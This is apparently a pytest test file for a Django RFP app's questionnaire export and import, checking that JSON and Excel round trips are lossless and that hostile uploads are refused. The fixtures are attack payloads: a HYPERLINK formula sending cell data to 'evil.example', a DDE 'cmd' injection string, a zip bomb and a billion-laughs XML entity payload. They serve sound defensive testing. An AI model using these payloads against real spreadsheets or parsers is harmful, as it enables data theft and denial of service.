"""Questionnaire export and import: lossless round trips through JSON and Excel, a workbook made
for people, safe handling of hostile files, and the download and upload pages."""

import io
import json
import zipfile
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from rfp.exporters import EXPORTERS, ExcelExporter, bank_document, rfp_document
from rfp.importers import ImportProblems, import_questionnaire, read_questionnaire_file
from rfp.models import RFP, AuditEntry, MemberRole, QuestionType, SectionKind, Status
from tests.factories import MemberFactory, QuestionFactory, RFPFactory, SectionFactory, make_questionnaire

RUBRIC = {str(level): f"Level {level}: evidence of practice {level}." for level in range(6)}
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'


def make_rich_rfp(owner) -> RFP:
    """An RFP that uses every question type, rule, knockout and awkward text the format must carry."""
    rfp = RFPFactory(
        reference="RFP-2027-010",
        kind="RFP",
        title="Customer care 2027: voice & chat",
        buyer="=cmd|' /C calc'!A0",
        summary="Two sites.\r\nOne in Lisbon, one in Kraków.",
        channels=["voice", "chat"],
        languages=["English", "Hebrew", "Polish"],
        yearly_volumes={"voice": 1200000, "chat": 45000.5},
        hours="24/7",
        sites="EU",
        currency="EUR",
        sealed=False,
        two_envelope=True,
        technical_pass_mark=Decimal("60.50"),
    )
    MemberFactory(rfp=rfp, user=owner, role=MemberRole.PROCUREMENT)
    service = SectionFactory(rfp=rfp, key="service", title="Service & quality", weight=Decimal("62.5"), order=1)
    service.description = "+ How you run the floor.\nTwo lines."
    service.risk_area = "quality"
    service.save()
    price = SectionFactory(
        rfp=rfp,
        key="pricing",
        title="Price",
        kind=SectionKind.PRICE,
        risk_area="pricing",
        weight=Decimal("37.5"),
        order=2,
    )
    questions = [
        {
            "key": "svc-yes",
            "type": QuestionType.YES_NO,
            "text": "Do you accept service credits tied to the KPIs?",
            "choices": [{"label": "Yes", "points": 5}, {"label": "No", "points": 0}],
            "rubric": None,
            "auto_rule": {"kind": "choice_points"},
            "knockout": {"op": "equals", "value": "Yes"},
            "knockout_reason": "Vendor refuses service credits.",
        },
        {
            "key": "svc-tier",
            "type": QuestionType.SINGLE_CHOICE,
            "text": "Which support tier do you propose?",
            "choices": [
                {"label": "Basic", "points": 1},
                {"label": "Tier | premium", "points": 4.5},
                {"label": "Other | tell us", "points": None},
            ],
            "rubric": None,
            "auto_rule": {"kind": "choice_points"},
            "weight": Decimal("2.5"),
        },
        {
            "key": "svc-channels",
            "type": QuestionType.MULTI_CHOICE,
            "text": "Which channels do you run today?",
            "choices": [{"label": "Voice", "points": None}, {"label": "Chat", "points": None}],
            "rubric": None,
            "scored": False,
            "knockout": {"op": "includes", "value": "Voice"},
            "knockout_reason": "Voice is a must.",
        },
        {
            "key": "svc-agents",
            "type": QuestionType.NUMBER,
            "text": "How many agents work on client accounts?",
            "unit": "agents",
            "rubric": None,
            "auto_rule": {
                "kind": "bands",
                "bands": [
                    {"min": None, "max": 100, "points": 0},
                    {"min": 100, "max": 250.5, "points": 2.5},
                    {"min": 250.5, "max": None, "points": 5},
                ],
            },
            "knockout": {"op": "min", "value": 50},
            "knockout_reason": "Too small.",
        },
        {
            "key": "svc-attrition",
            "type": QuestionType.PERCENTAGE,
            "text": "What was your agent attrition last year?",
            "rubric": None,
            "auto_rule": {"kind": "linear", "worst": 80, "best": 20},
            "knockout": {"op": "max", "value": 95.5},
            "knockout_reason": "Attrition out of control.",
            "benchmark": "-20% below the industry mean is good (industry benchmark).",
        },
        {
            "key": "svc-start",
            "type": QuestionType.DATE,
            "text": "When could you go live?",
            "rubric": None,
            "scored": False,
        },
        {
            "key": "svc-formula",
            "type": QuestionType.SHORT_TEXT,
            "text": HYPERLINK,
            "guidance": "+1 555 0100 is our switchboard; @mention the team.",
            "rubric": RUBRIC | {"3": ""},
        },
        {
            "key": "svc-essay",
            "type": QuestionType.LONG_TEXT,
            "text": "  Describe your quality programme.\r\nInclude calibration.\tתודה _x000D_ \x0b  ",
            "word_limit": 250,
            "guidance": "",
            "rubric": RUBRIC,
        },
        {
            "key": "svc-iso",
            "type": QuestionType.FILE,
            "text": "Attach your ISO 27001 certificate.",
            "rubric": None,
            "scored": False,
            "required": False,
        },
    ]
    for order, fields in enumerate(questions, start=1):
        QuestionFactory(section=service, order=order, **{"guidance": "Give evidence.", **fields})
    QuestionFactory(
        section=price,
        key="price-total",
        type=QuestionType.NUMBER,
        text="What is your yearly price?",
        unit="EUR per year",
        rubric=None,
        is_price=True,
        benchmark="Lowest valid price / this price x 100.",
        order=1,
    )
    return rfp


@pytest.fixture
def rich_rfp(paula):
    return make_rich_rfp(paula)


def exported(document: dict, fmt: str) -> tuple[str, bytes]:
    filename, _content_type, content = EXPORTERS[fmt](document).generate()
    return filename, content


def round_trip(document: dict, fmt: str, by) -> dict:
    """Export, import as a new draft, export again."""
    filename, content = exported(document, fmt)
    rfp = import_questionnaire(document=read_questionnaire_file(filename, content), by=by)
    return rfp_document(rfp)


def workbook_bytes(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def problems_of(filename: str, content: bytes) -> list[str]:
    with pytest.raises(ImportProblems) as raised:
        read_questionnaire_file(filename, content)
    return raised.value.problems


# --- lossless round trips --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["json", "xlsx"])
def test_an_rfp_survives_export_and_import_unchanged(rich_rfp, paula, fmt):
    first = rfp_document(rich_rfp)
    again = round_trip(first, fmt, paula)
    assert again["sections"] == first["sections"]
    assert again["rfp"] == first["rfp"]
    assert again["source"] != first["source"]  # a new draft with its own reference


@pytest.mark.parametrize("fmt", ["json", "xlsx"])
def test_reading_an_export_gives_back_the_exact_document(rich_rfp, fmt):
    document = rfp_document(rich_rfp)
    filename, content = exported(document, fmt)
    assert read_questionnaire_file(filename, content) == document


@pytest.mark.parametrize("fmt", ["json", "xlsx"])
def test_the_whole_bank_survives_export_and_import(paula, fmt):
    bank = bank_document()
    assert sum(len(s["questions"]) for s in bank["sections"]) == 120
    assert len(bank["sections"]) == 16
    again = round_trip(bank, fmt, paula)
    assert again["sections"] == bank["sections"]


def test_the_imported_rfp_is_a_draft_owned_by_the_importer_with_the_file_settings(rich_rfp, paula, piotr):
    filename, content = exported(rfp_document(rich_rfp), "xlsx")
    deadline = timezone.now() + timedelta(days=40)
    rfp = import_questionnaire(
        document=read_questionnaire_file(filename, content),
        by=piotr,
        title="Customer care 2028",
        deadline=deadline,
        filename=filename,
    )
    assert rfp.status == Status.DRAFT
    assert rfp.reference.startswith("RFP-")
    assert rfp.title == "Customer care 2028"
    assert rfp.deadline == deadline
    assert rfp.two_envelope is True and rfp.technical_pass_mark == Decimal("60.50")
    assert list(rfp.members.values_list("user__username", "role")) == [("piotr", MemberRole.PROCUREMENT)]
    assert AuditEntry.objects.filter(rfp=rfp, action="questionnaire.imported", actor=piotr).exists()


def test_the_bank_imports_with_a_default_title_and_a_deadline_three_weeks_ahead(paula):
    filename, content = exported(bank_document(), "json")
    rfp = import_questionnaire(document=read_questionnaire_file(filename, content), by=paula)
    assert rfp.title == "Imported questionnaire"
    assert timedelta(days=21) <= rfp.deadline - timezone.now() <= timedelta(days=21 + 12)  # next working day


def test_the_shipped_bank_file_itself_imports(paula, settings):
    content = (settings.BASE_DIR / "rfp" / "bank" / "contact_center_bank.json").read_bytes()
    rfp = import_questionnaire(document=read_questionnaire_file("bank.json", content), by=paula)
    assert rfp.sections.count() == 16


# --- the workbook, for people ---------------------------------------------------------------------


@pytest.fixture
def rich_workbook(rich_rfp):
    _filename, content = exported(rfp_document(rich_rfp), "xlsx")
    return openpyxl.load_workbook(io.BytesIO(content))


def test_the_workbook_has_a_questionnaire_a_sections_and_an_about_sheet(rich_workbook):
    assert rich_workbook.sheetnames == ["Questionnaire", "Sections", "About"]
    questions = rich_workbook["Questionnaire"]
    assert questions.max_row == 11  # header and ten questions
    headers = [cell.value for cell in questions[1]]
    assert headers[:6] == ["Section key", "Section title", "Section weight", "Question key", "Question", "Type"]
    assert [f"Rubric {level}" for level in range(6)] == headers[12:18]
    about = {row[2].value: row[1].value for row in rich_workbook["About"].iter_rows(min_row=4) if row[2].value}
    assert about["format"] == "shortlist-questionnaire"
    assert about["rfp.languages"] == "English\nHebrew\nPolish"
    assert about["rfp.yearly_volumes"] == "voice: 1200000\nchat: 45000.5"


def test_the_header_is_styled_frozen_filtered_and_the_columns_sized(rich_workbook):
    for sheet in ("Questionnaire", "Sections"):
        ws = rich_workbook[sheet]
        header = ws["A1"]
        assert header.font.bold
        assert header.fill.fill_type == "solid"
        assert ws.freeze_panes.endswith("2")
        assert ws.auto_filter.ref.startswith("A1:")
        assert ws.column_dimensions["B"].width >= 20
    questions = rich_workbook["Questionnaire"]
    assert questions.freeze_panes == "E2"
    assert questions.column_dimensions["E"].width == 60
    assert questions["E2"].alignment.wrap_text
    assert questions.auto_filter.ref == "A1:Z11"


def test_rules_read_as_words_next_to_their_json(rich_workbook):
    ws = rich_workbook["Questionnaire"]
    rows = {row[3].value: row for row in ws.iter_rows(min_row=2)}
    headers = [cell.value for cell in ws[1]]
    rule = headers.index("Auto-scoring rule")
    knockout = headers.index("Knockout")
    choices = headers.index("Choices (Label | points)")
    assert rows["svc-agents"][rule].value == "bands: <100 -> 0; 100-250.5 -> 2.5; >=250.5 -> 5"
    assert rows["svc-attrition"][rule].value == "linear: 80 scores 0, 20 scores 5"
    assert rows["svc-agents"][knockout].value == "at least 50"
    assert rows["svc-yes"][knockout].value == "must answer Yes"
    assert rows["svc-tier"][choices].value == "Basic | 1\nTier | premium | 4.5\nOther | tell us |"
    assert json.loads(rows["svc-attrition"][rule + 1].value) == {"kind": "linear", "worst": 80, "best": 20}


def test_formula_like_text_is_stored_as_text_never_as_a_formula(rich_rfp):
    _filename, content = exported(rfp_document(rich_rfp), "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cell = next(row[4] for row in workbook["Questionnaire"].iter_rows(min_row=2) if row[3].value == "svc-formula")
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"
    assert cell.quotePrefix  # stays text when someone edits the cell in Excel
    buyer = next(row[1] for row in workbook["About"].iter_rows() if row[2].value == "rfp.buyer")
    assert buyer.value == "=cmd|' /C calc'!A0" and buyer.data_type == "s"


def test_formula_like_text_comes_back_identical(rich_rfp, paula):
    again = round_trip(rfp_document(rich_rfp), "xlsx", paula)
    texts = {q["key"]: q for s in again["sections"] for q in s["questions"]}
    assert texts["svc-formula"]["text"] == HYPERLINK
    assert texts["svc-formula"]["guidance"].startswith("+1 555")
    assert again["rfp"]["buyer"] == "=cmd|' /C calc'!A0"


def test_control_characters_and_windows_line_ends_survive_excel(rich_rfp, paula):
    again = round_trip(rfp_document(rich_rfp), "xlsx", paula)
    essay = next(q for s in again["sections"] for q in s["questions"] if q["key"] == "svc-essay")
    assert essay["text"] == "  Describe your quality programme.\r\nInclude calibration.\tתודה _x000D_ \x0b  "


# --- hostile and broken files ------------------------------------------------------------------------


@pytest.fixture
def good_xlsx(rich_rfp) -> bytes:
    return exported(rfp_document(rich_rfp), "xlsx")[1]


def test_a_file_that_is_not_a_workbook_is_refused(db):
    assert problems_of("q.xlsx", b"Name,Weight\nSLA,10\n") == ["This is not an Excel workbook (.xlsx)."]


def test_a_truncated_workbook_is_refused(good_xlsx):
    assert "damaged or incomplete" in problems_of("q.xlsx", good_xlsx[: len(good_xlsx) // 2])[0]


def test_a_workbook_with_corrupt_contents_is_refused(good_xlsx):
    with zipfile.ZipFile(io.BytesIO(good_xlsx)) as archive:
        sheet = archive.getinfo("xl/worksheets/sheet1.xml")
    start = sheet.header_offset + 30 + len(sheet.filename) + len(sheet.extra) + 20
    corrupt = bytearray(good_xlsx)
    corrupt[start : start + 200] = bytes(200)
    assert "damaged or incomplete" in problems_of("q.xlsx", bytes(corrupt))[0]


def test_a_zip_that_is_not_a_workbook_is_refused(db):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")
    assert problems_of("q.xlsx", buffer.getvalue()) == ["This is not an Excel workbook (.xlsx)."]


def test_a_zip_bomb_is_refused_before_anything_is_inflated(db):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", bytes(60 * 1024 * 1024))
    assert len(buffer.getvalue()) < 200_000
    problems = problems_of("bomb.xlsx", buffer.getvalue())
    assert problems == ["The workbook would unpack to 60 MB; the limit is 50 MB."]


def test_a_zip_with_thousands_of_entries_is_refused(db):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index in range(600):
            archive.writestr(f"xl/media/{index}.bin", b"")
    assert problems_of("many.xlsx", buffer.getvalue())[0].startswith("The workbook holds 600 parts")


def test_xml_entities_are_refused(good_xlsx):
    """openpyxl parses with defusedxml here; a billion-laughs payload never expands."""
    assert openpyxl.DEFUSEDXML is True
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good_xlsx)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            data = bomb if item.filename == "xl/worksheets/sheet1.xml" else source.read(item)
            target.writestr(item, data)
    assert problems_of("lol.xlsx", buffer.getvalue()) == [
        "The workbook contains XML declarations (DOCTYPE or ENTITY) that are not allowed."
    ]


def test_an_oversized_file_is_refused(good_xlsx, settings):
    settings.MAX_UPLOAD_BYTES = 1024
    assert problems_of("q.xlsx", good_xlsx)[0].startswith("The file is ")


def test_a_formula_in_a_cell_is_refused_with_its_sheet_row_and_column(good_xlsx):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    workbook["Questionnaire"]["I3"] = "=1+1"
    workbook["Sections"]["F2"] = "=100-37.5"
    problems = problems_of("q.xlsx", workbook_bytes(workbook))
    assert "Questionnaire, row 3, column I: formulas are not accepted; type the value itself." in problems
    assert "Sections, row 2, column F: formulas are not accepted; type the value itself." in problems


def test_wrong_values_are_each_named_by_sheet_row_and_column(good_xlsx):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    ws = workbook["Questionnaire"]
    ws["I2"] = "heavy"
    ws["G3"] = "maybe"
    ws["K9"] = 2.5
    ws["F4"] = "essay"
    ws["T5"] = "{not json"
    ws["L2"] = "Yes | 9\nNo | 0"
    ws["A8"] = "nowhere"
    problems = problems_of("q.xlsx", workbook_bytes(workbook))
    assert problems == [
        "Questionnaire, row 2, column I (Weight): 'heavy' is not a number.",
        "Questionnaire, row 2, column L (Choices (Label | points)): 'Yes | 9': points must be a number from 0 to 5.",
        "Questionnaire, row 3, column G (Required): 'maybe' is not Yes or No.",
        "Questionnaire, row 4, column F (Type): 'essay' is not one of: yes_no, single_choice, multi_choice, "
        "number, percentage, date, short_text, long_text, file.",
        "Questionnaire, row 5, column T (Auto-scoring rule (JSON)): this is not valid JSON, "
        'e.g. {"kind": "linear", "worst": 80, "best": 20}.',
        "Questionnaire, row 8, column A (Section key): there is no section 'nowhere' on the Sections sheet.",
        "Questionnaire, row 9, column K (Word limit): 2.5 is not a whole number.",
    ]


def test_a_changed_readable_rule_is_refused_rather_than_ignored(good_xlsx):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    workbook["Questionnaire"]["S6"] = "linear: 90 scores 0, 10 scores 5"
    workbook["Questionnaire"]["B2"] = "Renamed here"  # one row of the section, so the copies now differ
    problems = problems_of("q.xlsx", workbook_bytes(workbook))
    assert len(problems) == 2
    assert problems[0].startswith("Questionnaire, row 6, column S (Auto-scoring rule): this grey column only")
    assert problems[1].startswith("Questionnaire, row 2, column B (Section title): this grey column copies")


def test_cleared_readable_cells_and_added_notes_columns_are_fine(good_xlsx, rich_rfp):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    ws = workbook["Questionnaire"]
    for row in range(2, 12):
        for column in "BCSU":
            ws[f"{column}{row}"] = None
    ws["AC1"] = "Our notes"
    ws["AC2"] = "Ask legal about this one"
    assert read_questionnaire_file("q.xlsx", workbook_bytes(workbook)) == rfp_document(rich_rfp)


def test_questions_are_checked_row_by_row_and_the_weights_as_a_whole(good_xlsx):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    workbook["Questionnaire"]["T6"] = None  # the percentage question loses its rule...
    workbook["Questionnaire"]["S6"] = None  # ...and has no rubric
    problems = problems_of("q.xlsx", workbook_bytes(workbook))
    assert problems == [
        "Questionnaire, row 6 (question svc-attrition): a scored question needs a 0-5 rubric or an auto-scoring rule."
    ]
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    workbook["Sections"]["F2"] = 70  # the copies in the Questionnaire sheet are now stale, which is fine
    assert problems_of("q.xlsx", workbook_bytes(workbook)) == ["Section weights total 107.5; they must total 100."]


def test_a_section_weight_changed_on_the_sections_sheet_wins_over_stale_copies(good_xlsx, paula):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    workbook["Sections"]["F2"] = 70
    workbook["Sections"]["F3"] = 30
    workbook["Sections"]["B2"] = "Service"
    document = read_questionnaire_file("q.xlsx", workbook_bytes(workbook))
    assert [(s["title"], s["weight"]) for s in document["sections"]] == [("Service", 70.0), ("Price", 30.0)]


def test_a_section_copy_edited_on_one_row_is_refused_rather_than_ignored(good_xlsx):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    workbook["Questionnaire"]["C4"] = 80
    assert problems_of("q.xlsx", workbook_bytes(workbook)) == [
        "Questionnaire, row 4, column C (Section weight): this grey column copies the Sections sheet; "
        "change the section there, or clear this cell."
    ]


def test_a_workbook_without_the_sections_sheet_is_refused(good_xlsx):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    del workbook["Sections"]
    assert problems_of("q.xlsx", workbook_bytes(workbook)) == [
        "The workbook has no sheet named Sections; start from a questionnaire exported by Shortlist."
    ]


def test_bad_json_is_refused_with_its_line_and_column(db):
    assert problems_of("q.json", b'{"sections": [}') == [
        "The file is not valid JSON: Expecting value at line 1, column 15."
    ]
    assert problems_of("q.json", b"\xff\xfe") == ["The file is not UTF-8 text, so it cannot be JSON."]
    assert problems_of("q.json", b"[1, 2]") == [
        "The file holds no questionnaire: expected an object with a list of sections."
    ]
    assert "NaN is not a number" in problems_of("q.json", b'{"sections": [], "x": NaN}')[0]


def test_json_with_wrong_types_names_the_section_question_and_field(rich_rfp):
    document = rfp_document(rich_rfp)
    question = document["sections"][0]["questions"][1]
    question["weight"] = "heavy"
    question["choices"][0]["points"] = 7
    question["colour"] = "red"
    document["sections"][1]["questions"][0]["key"] = "Not a slug!"
    problems = problems_of("q.json", json.dumps(document).encode())
    assert problems == [
        "Section 1 (Service & quality), question svc-tier: weight must be a number.",
        "Section 1 (Service & quality), question svc-tier: choices choice points must be a number from 0 to 5.",
        "Section 1 (Service & quality), question svc-tier: unknown field 'colour'.",
    ]
    question["weight"], question["choices"][0]["points"] = 1, 1
    del question["colour"]
    problems = problems_of("q.json", json.dumps(document).encode())
    assert problems[0] == (
        "Section 2 (Price), question Not a slug!: the key must be 1-40 letters, digits, hyphens or underscores."
    )


def test_a_file_of_another_format_or_a_newer_version_is_refused(db):
    assert problems_of("q.json", b'{"format": "surveymonkey", "sections": []}') == [
        "This is not a Shortlist questionnaire file (its format is 'surveymonkey')."
    ]
    newer = b'{"format": "shortlist-questionnaire", "version": 2, "sections": []}'
    assert "newer Shortlist" in problems_of("q.json", newer)[0]


def test_an_unknown_extension_is_refused(db):
    assert "Choose a .json or .xlsx file" in problems_of("q.csv", b"a,b")[0]


def test_nothing_is_saved_when_the_rfp_settings_are_invalid(rich_rfp, paula):
    document = rfp_document(rich_rfp)
    document["rfp"]["currency"] = "EURO"
    document["rfp"]["status"] = "decided"
    rfps, entries = RFP.objects.count(), AuditEntry.objects.count()
    with pytest.raises(ImportProblems) as raised:
        import_questionnaire(document=document, by=paula)
    assert raised.value.problems == ["RFP details, status: unknown field."]
    del document["rfp"]["status"]
    with pytest.raises(ImportProblems) as raised:
        import_questionnaire(document=document, by=paula)
    assert raised.value.problems == ["RFP details, Currency: Ensure this value has at most 3 characters (it has 4)."]
    assert (RFP.objects.count(), AuditEntry.objects.count()) == (rfps, entries)


def test_a_taken_or_malformed_reference_is_refused(rich_rfp, paula):
    document = rfp_document(rich_rfp)
    with pytest.raises(ImportProblems, match="already exists"):
        import_questionnaire(document=document, by=paula, reference=rich_rfp.reference)
    with pytest.raises(ImportProblems, match="must be up to 32 letters"):
        import_questionnaire(document=document, by=paula, reference="RFP/2027/1")


# --- the download views ------------------------------------------------------------------------------


def test_a_member_downloads_the_questionnaire_as_json(rich_rfp, paula, login):
    response = login(paula).get(reverse("rfp:export_questionnaire", args=[rich_rfp.reference, "json"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="RFP-2027-010-questionnaire.json"'
    assert json.loads(response.content) == rfp_document(rich_rfp)


def test_an_evaluator_on_the_panel_downloads_it_as_excel(world, omar, login):
    response = login(omar).get(reverse("rfp:export_questionnaire", args=[world.rfp.reference, "xlsx"]))
    assert response.status_code == 200
    assert response["Content-Type"] == ExcelExporter.content_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert openpyxl.load_workbook(io.BytesIO(response.content)).sheetnames[0] == "Questionnaire"


def test_an_unknown_format_is_not_found(rich_rfp, paula, login):
    response = login(paula).get(reverse("rfp:export_questionnaire", args=[rich_rfp.reference, "csv"]))
    assert response.status_code == 404


def test_procurement_downloads_the_whole_bank(paula, login):
    response = login(paula).get(reverse("rfp:export_bank", args=["xlsx"]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="shortlist-question-bank.xlsx"'
    ws = openpyxl.load_workbook(io.BytesIO(response.content))["Questionnaire"]
    assert ws.max_row == 121


def test_the_download_takes_the_same_queries_for_a_small_and_a_large_questionnaire(paula, client):
    small = RFPFactory(reference="RFI-2027-201")
    large = RFPFactory(reference="RFI-2027-202")
    for rfp, sections, questions in ((small, 1, 2), (large, 8, 30)):
        MemberFactory(rfp=rfp, user=paula, role=MemberRole.PROCUREMENT)
        make_questionnaire(rfp, sections=sections, questions_per_section=questions)
    client.force_login(paula)
    counts = []
    for rfp in (small, large):
        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse("rfp:export_questionnaire", args=[rfp.reference, "xlsx"]))
        assert response.status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]


# --- the import page ---------------------------------------------------------------------------------


def test_the_import_page_offers_a_form_and_the_bank_as_a_starting_point(paula, login):
    response = login(paula).get(reverse("rfp:import_questionnaire"))
    assert response.status_code == 200
    assert b'type="file"' in response.content
    assert reverse("rfp:export_bank", args=["xlsx"]).encode() in response.content


def test_uploading_a_workbook_creates_a_draft_and_opens_it(rich_rfp, piotr, login):
    filename, content = exported(rfp_document(rich_rfp), "xlsx")
    upload = io.BytesIO(content)
    upload.name = filename
    response = login(piotr).post(
        reverse("rfp:import_questionnaire"), {"file": upload, "title": "Care 2028", "deadline": "2031-03-01T17:00"}
    )
    rfp = RFP.objects.get(title="Care 2028")
    assert response.status_code == 302
    assert response.url == reverse("rfp:detail", args=[rfp.reference])
    assert rfp.status == Status.DRAFT and rfp.members.get().user == piotr
    assert timezone.localtime(rfp.deadline).strftime("%Y-%m-%d %H:%M") == "2031-03-01 17:00"
    assert rfp_document(rfp)["sections"] == rfp_document(rich_rfp)["sections"]


def test_uploading_a_bad_file_lists_the_problems_and_saves_nothing(good_xlsx, paula, login):
    workbook = openpyxl.load_workbook(io.BytesIO(good_xlsx))
    workbook["Questionnaire"]["I2"] = "heavy"
    workbook["Questionnaire"]["I3"] = "=2*2"
    upload = io.BytesIO(workbook_bytes(workbook))
    upload.name = "edited.xlsx"
    rfps = RFP.objects.count()
    response = login(paula).post(reverse("rfp:import_questionnaire"), {"file": upload})
    assert response.status_code == 200
    assert RFP.objects.count() == rfps
    page = response.content.decode()
    assert "The file was not imported: 2 problems to fix." in page
    assert "Questionnaire, row 2, column I (Weight): &#x27;heavy&#x27; is not a number." in page
    assert "Questionnaire, row 3, column I: formulas are not accepted" in page


def test_uploading_a_file_of_the_wrong_kind_says_so(paula, login):
    upload = io.BytesIO(b"%PDF-1.7")
    upload.name = "questions.pdf"
    response = login(paula).post(reverse("rfp:import_questionnaire"), {"file": upload})
    assert response.status_code == 200
    assert "Choose a .json or .xlsx file." in response.content.decode()


def test_a_deadline_in_the_past_is_refused_on_the_form(good_xlsx, paula, login):
    upload = io.BytesIO(good_xlsx)
    upload.name = "q.xlsx"
    response = login(paula).post(reverse("rfp:import_questionnaire"), {"file": upload, "deadline": "2001-01-01T10:00"})
    assert "The deadline must be in the future." in response.content.decode()
